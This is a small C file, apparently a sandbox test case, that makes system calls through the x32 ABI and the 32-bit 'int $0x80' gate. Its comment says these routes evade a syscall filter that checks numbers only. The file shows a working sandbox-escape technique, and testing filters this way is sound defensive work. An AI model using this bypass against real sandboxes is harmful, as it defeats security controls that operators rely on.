/* The kernel's 32-bit door and the x32 one lead around a filter that looks at one kind of number only. */
#include "attack.h"
int main(int count, char **arguments)
{
    (void)arguments;
#ifdef __x86_64__
    long result;
    if (count > 1) syscall(0x40000000 + 41, 2, 1, 0);
    else __asm__ volatile("int $0x80" : "=a"(result) : "a"(20));
#endif
    return 0;
}
